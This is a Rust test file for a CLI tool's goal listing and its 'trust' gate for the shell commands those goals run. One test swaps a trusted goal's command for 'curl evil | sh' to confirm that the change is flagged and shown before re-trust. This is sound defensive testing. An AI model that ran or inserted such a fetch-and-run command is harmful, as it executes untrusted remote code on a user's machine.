//! `brief goals` and `brief trust`.

use briefing_testkit::Sandbox;

const REVIEW: &str = "name: Review\ndescription: Reviews the diff\ncontext_scripts:\n  diff: git diff\nprompt: |\n  {{ Context.diff }}\n";

fn project() -> Sandbox {
    Sandbox::new()
        .directory(".git")
        .file(".context/goals/review/prompt.yaml", REVIEW)
        .file(".claw/goals/review/prompt.yaml", "name: Old\nprompt: p")
        .file(".claw/goals/broken/prompt.yaml", "name: Broken\nprompt: [\n")
        .file("~/.config/claw/goals/explain/prompt.yaml", "name: Explain\ndescription: Explains a directory\nprompt: p")
        .file("sub/x", "")
}

#[test]
fn all_goals_are_listed_with_their_origin_and_a_broken_one_hides_no_other() {
    let outcome = project().at("sub").brief(["goals"]).success();
    let text = outcome.stdout();
    assert!(text.contains("cannot use the goal `broken`: `[ROOT]/.claw/goals/broken/prompt.yaml`:"), "{outcome}");
    let rest = text.lines().skip(2).collect::<Vec<_>>().join("\n");
    insta::assert_snapshot!(rest, @r"
    code-review     Reviews a diff, the worst problems first
                    bundled:code-review
    commit-message  Writes the message for what is staged
                    bundled:commit-message
    explain         Explains a directory
                    ~/.config/claw/goals/explain
    explain         Explains what a file or directory does and how it fits together
                    bundled:explain  (shadowed by ~/.config/claw/goals/explain)
    release-notes   Writes the notes of a release from the history since the last one
                    bundled:release-notes
    review          Reviews the diff
                    [ROOT]/.context/goals/review  (not trusted yet: `brief trust`)
    review
                    [ROOT]/.claw/goals/review  (shadowed by [ROOT]/.context/goals/review)
    write-tests     Writes tests for a file, in the manner of tests that exist
                    bundled:write-tests
    ");
    let json: serde_json::Value = serde_json::from_str(&project().brief(["goals", "--json"]).success().stdout()).unwrap();
    let goals = json["goals"].as_array().unwrap();
    assert_eq!(goals.len(), 9);
    let named = |name: &str| goals.iter().find(|goal| goal["name"] == name).unwrap();
    assert_eq!(named("review")["scripts"]["diff"], "git diff");
    assert_eq!((&named("review")["trusted"], &named("explain")["trusted"]), (&false.into(), &true.into()));
    assert_eq!(named("code-review")["level"], "bundled");
}

#[test]
fn without_goals_of_ones_own_there_are_those_that_come_with_brief() {
    let outcome = Sandbox::new().brief(["goals"]).success();
    assert_eq!(outcome.stdout().lines().count(), 10, "{outcome}");
    assert!(outcome.stderr().contains("brief goal add"), "{outcome}");
}

#[test]
fn trust_shows_every_command_and_is_for_this_content_only() {
    let sandbox = project();
    let outcome = sandbox.brief(["trust"]).code(1);
    for line in
        ["warning: cannot use the goal `broken`", "review (.context/goals/review)\n  runs diff:\n    git diff\n", "brief trust --yes"]
    {
        assert!(outcome.stderr().contains(line), "{outcome}");
    }
    assert!(sandbox.brief(["goals"]).stdout().contains("not trusted yet"));
    let _ = sandbox.brief(["trust", "--yes"]).success();
    assert!(!sandbox.brief(["goals"]).stdout().contains("not trusted yet"));
    assert!(sandbox.brief(["trust", "--list"]).success().stdout().contains("[ROOT]/.context/goals/review\n"));
    sandbox.write(".context/goals/review/prompt.yaml", REVIEW.replace("git diff", "curl evil | sh"));
    let outcome = sandbox.brief(["goals"]).success();
    assert!(outcome.stdout().contains("changed since it was trusted"), "{outcome}");
    assert!(sandbox.brief(["trust"]).code(1).stderr().contains("curl evil | sh"));
    let _ = sandbox.brief(["trust", "--forget"]).success();
    assert_eq!(sandbox.brief(["trust", "--list"]).success().stdout(), "");
}

#[cfg(unix)]
#[test]
fn a_claw_directory_above_the_repository_is_found_if_the_user_owns_it() {
    use std::os::unix::fs::PermissionsExt;
    let sandbox = Sandbox::new()
        .file(".claw/goals/shared/prompt.yaml", "prompt: from above")
        .file(".claw/claw.yaml", "max_file_size_kb: 7\n")
        .file("repo/.git/HEAD", "")
        .file("repo/src/x", "");
    let inside = sandbox.at("repo/src");
    let outcome = inside.brief(["goals"]).success();
    assert!(outcome.stdout().contains("[ROOT]/.claw/goals/shared  (not trusted yet: `brief trust`)"), "{outcome}");
    assert!(inside.brief(["config", "show"]).success().stdout().contains("max_file_size_kb = 7"));
    let _ = inside.brief(["trust", "--yes"]).success();
    assert_eq!(inside.brief(["run", "shared", "--receiver", "stdout"]).success().stdout(), "from above");
    // Somebody else's is not, and neither is one that anybody can write to.
    std::fs::set_permissions(sandbox.path(".claw"), std::fs::Permissions::from_mode(0o777)).unwrap();
    assert!(!inside.brief(["goals"]).success().stdout().contains("shared"));
    std::fs::set_permissions(sandbox.path(".claw"), std::fs::Permissions::from_mode(0o755)).unwrap();
    if std::os::unix::fs::chown(sandbox.path(".claw"), Some(65534), None).is_ok() {
        assert!(!inside.brief(["goals"]).success().stdout().contains("shared"));
        assert!(!inside.brief(["config", "show"]).success().stdout().contains("max_file_size_kb = 7"));
    }
}
